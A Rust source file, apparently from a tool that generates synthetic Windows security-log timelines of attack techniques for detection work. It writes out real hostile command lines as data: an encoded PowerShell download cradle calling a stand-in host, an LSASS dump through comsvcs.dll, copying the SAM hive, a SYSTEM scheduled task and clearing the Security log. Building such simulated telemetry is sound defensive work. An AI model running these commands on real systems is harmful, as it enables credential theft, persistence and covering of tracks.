            "lsass-minidump" => lsass_minidump,
            "password-spray" => password_spray,
            "psexec-service" => psexec_service,
            "schtask-persistence" => schtask_persistence,
            "sam-hive-copy" => sam_hive_copy,
            _ => security_log_cleared,
        };
        technique(&mut t, &actor, &self.fleet.users, &self.fleet.hosts, rng);
        t.docs
    }
}

/// Who plays a technique: the campaign's account, its logon session, and whether the host
/// audits process creation.
struct Actor {
    user: User,
    logon: String,
    audits: bool,
}

impl Actor {
    fn process(&self, program: Program, cmd: &str, rng: &mut Rng) -> Proc {
        new_proc(program, cmd, &self.user, &self.logon, rng)
    }

    fn shell(&self, rng: &mut Rng) -> Proc {
        self.process(CMD, "\"C:\\Windows\\system32\\cmd.exe\"", rng)
    }
}

/// A Word macro starts an encoded PowerShell that connects out, drops a file and sets a
/// `Run` key for it.
fn office_macro(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
    let word = a.process(WINWORD, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\Invoice_0427.docm\"", rng);
    let ps = a.process(POWERSHELL, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHUAcABkAGEAdABlAC4AbgBlAHQALwBhACcAKQA=", rng);
    t.process_start(&ps, &word, a.audits);
    t.connect(&ps, "cdn-update.net", "185.141.63.120", 443, rng);
    let payload = format!(
        "C:\\Users\\{}\\AppData\\Roaming\\OneDriveUpdate.exe",
        a.user.name
    );
    t.file_create(&ps, &payload);
    t.registry_set(
        &ps,
        &format!(
            "HKU\\{}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate",
            a.user.sid
        ),
        &payload,
    );
}

/// `whoami`, `net group` and `nltest` from a shell that PowerShell started.
fn discovery_burst(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
    let ps = a.process(POWERSHELL, "powershell.exe -nop", rng);
    let cmd = a.process(
        CMD,
        "cmd.exe /c whoami /all & net group \"domain admins\" /domain & nltest /domain_trusts",
        rng,
    );
    t.process_start(&cmd, &ps, a.audits);
    for (image, original, line) in [
        (
            "C:\\Windows\\System32\\whoami.exe",
            "whoami.exe",
            "whoami  /all",
        ),
        (
            "C:\\Windows\\System32\\net.exe",
            "net.exe",
            "net  group \"domain admins\" /domain",
        ),
        (
            "C:\\Windows\\System32\\nltest.exe",
            "nltestrk.exe",
            "nltest  /domain_trusts",
        ),
    ] {
        let p = a.process(program(image, original, "", MS), line, rng);
        t.process_start(&p, &cmd, a.audits);
    }
}

/// LSASS dumped through `comsvcs.dll`'s `MiniDump`, with Sysmon's process access event.
fn lsass_minidump(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
    let cmd = a.shell(rng);
    let dump = a.process(RUNDLL32, "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Windows\\Temp\\debug.bin full", rng);
    t.process_start(&dump, &cmd, a.audits);
    t.sysmon(
        20,
        "10",
        "Process accessed (rule: ProcessAccess)",
        &[
            ("SourceProcessGUID", dump.guid.clone()),
            ("SourceProcessId", dump.pid.to_string()),
            ("SourceThreadId", "4460".into()),
            ("SourceImage", RUNDLL32.image.into()),
            ("TargetProcessGUID", braced(rng)),
            ("TargetProcessId", "652".into()),
            ("TargetImage", LSASS.into()),
            ("GrantedAccess", "0x1fffff".into()),
            ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2bcde|C:\\Windows\\System32\\comsvcs.dll+43c2a|UNKNOWN(00000000002A1B3C)".into()),
            ("SourceUser", account(&a.user)),
            ("TargetUser", "NT AUTHORITY\\SYSTEM".into()),
        ],
    );
    t.file_create(&dump, "C:\\Windows\\Temp\\debug.bin");
}

/// Failed network logons for eight accounts from one address, then one that works.
fn password_spray(t: &mut Timeline, a: &Actor, users: &[User], _: &[Host], _: &mut Rng) {
    let attacker = "10.20.7.66";
    for (i, victim) in users.iter().filter(|v| !v.service).take(8).enumerate() {
        t.failed_logon(&victim.name, attacker, "KALI", if i == 0 { 0 } else { 700 });
    }
    t.logon(&a.user, 3, None, &a.logon);
}

/// A PsExec-style service installed over a network logon, and the shell it runs.
fn psexec_service(t: &mut Timeline, a: &Actor, _: &[User], hosts: &[Host], rng: &mut Rng) {
    t.logon(&a.user, 3, hosts.first(), &a.logon);
    t.service_install(&a.user, &a.logon, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    let system = system_user();
    let svc = new_proc(
        program(
            "C:\\Windows\\PSEXESVC.exe",
            "psexesvc.exe",
            "PsExec Service",
            "Sysinternals",
        ),
        "C:\\Windows\\PSEXESVC.exe",
        &system,
        "0x3e7",
        rng,
    );
    let services = new_proc(
        SERVICES,
        "C:\\Windows\\system32\\services.exe",
        &system,
        "0x3e7",
        rng,
    );
    t.process_start(&svc, &services, a.audits);
    let cmd = new_proc(
        CMD,
        "\"cmd\" /c \"hostname && ipconfig\"",
        &system,
        "0x3e7",
        rng,
    );
    t.process_start(&cmd, &svc, a.audits);
}

/// `schtasks /create` of a logon task running as SYSTEM, with its 4698.
fn schtask_persistence(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
    let cmd = a.shell(rng);
    let schtasks = a.process(program("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool", MS), "schtasks.exe /create /tn \"\\Microsoft\\Windows\\WinUpdate\" /tr \"C:\\Users\\Public\\upd.exe\" /sc onlogon /ru SYSTEM /f", rng);
    t.process_start(&schtasks, &cmd, a.audits);
    t.task_registered(
        &a.user,
        &a.logon,
        "\\Microsoft\\Windows\\WinUpdate",
        "C:\\Users\\Public\\upd.exe",
        "",
    );
}

/// The SAM hive saved with `reg save`.
fn sam_hive_copy(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
    let cmd = a.shell(rng);
    let reg = a.process(
        program(
            "C:\\Windows\\System32\\reg.exe",
            "reg.exe",
            "Registry Console Tool",
            MS,
        ),
        "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y",
        rng,
    );
    t.process_start(&reg, &cmd, a.audits);
    t.file_create(&reg, "C:\\Windows\\Temp\\sam.save");
}

/// `wevtutil cl Security` and the 1102 the cleared log records.
fn security_log_cleared(t: &mut Timeline, a: &Actor, _: &[User], _: &[Host], rng: &mut Rng) {
    let cmd = a.shell(rng);
    let wevtutil = a.process(
        program(
            "C:\\Windows\\System32\\wevtutil.exe",
            "wevtutil.exe",
            "Eventing Command Line Utility",
            MS,
        ),
        "wevtutil.exe cl Security",
        rng,
    );
    t.process_start(&wevtutil, &cmd, a.audits);
    let doc = t.event(
        300,
        EVENTLOG_PROVIDER,
        pipeline::CHANNEL_SECURITY,
        "1102",
        "Log clear",
    );
    audit(doc, true);
    for (k, v) in [
        ("SubjectUserSid", a.user.sid.as_str()),
        ("SubjectUserName", a.user.name.as_str()),
        ("SubjectDomainName", a.user.domain.as_str()),
        ("SubjectLogonId", a.logon.as_str()),
    ] {
        doc.set_str(format!("winlog.user_data.{k}"), v);
    }
    doc.set_str("winlog.user_data.xml_name", "LogFileCleared");
}

/// An installer: msiexec writes the program's files, a `Run` key and, sometimes, a service.
fn software_install(t: &mut Timeline, rng: &mut Rng) {
    let system = system_user();
    let msiexec = program(
        "C:\\Windows\\System32\\msiexec.exe",
        "msiexec.exe",
        "Windows® installer",
        MS,
    );
    let parent = new_proc(
        SERVICES,
        "C:\\Windows\\system32\\services.exe",
        &system,
        "0x3e7",
        rng,
    );
    let p = new_proc(
        msiexec,
        "C:\\Windows\\system32\\msiexec.exe /V",
        &system,
        "0x3e7",
        rng,
    );
    t.process_start(&p, &parent, audits_processes(t.host));
    let (vendor, exe) = *rng.pick(&[
        ("Zoom", "Zoom.exe"),
        ("Notepad++", "notepad++.exe"),
        ("7-Zip", "7zFM.exe"),
        ("Citrix\\ICA Client", "SelfServicePlugin.exe"),
    ]);
    let path = format!("C:\\Program Files\\{vendor}\\{exe}");
    t.file_create(&p, &path);
    if rng.chance(0.5) {
        t.registry_set(
            &p,
            &format!(
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\{}",
                exe.trim_end_matches(".exe")
            ),
            &format!("\"{path}\" /background"),
        );
    }
    if rng.chance(0.3) {
        let name = format!("{}Updater", vendor.split('\\').next().unwrap_or(vendor));
        t.service_install(
            &system,
            "0x3e7",
            &name,
            &format!("\"C:\\Program Files\\{vendor}\\updater.exe\" --service"),
        );
    }
}
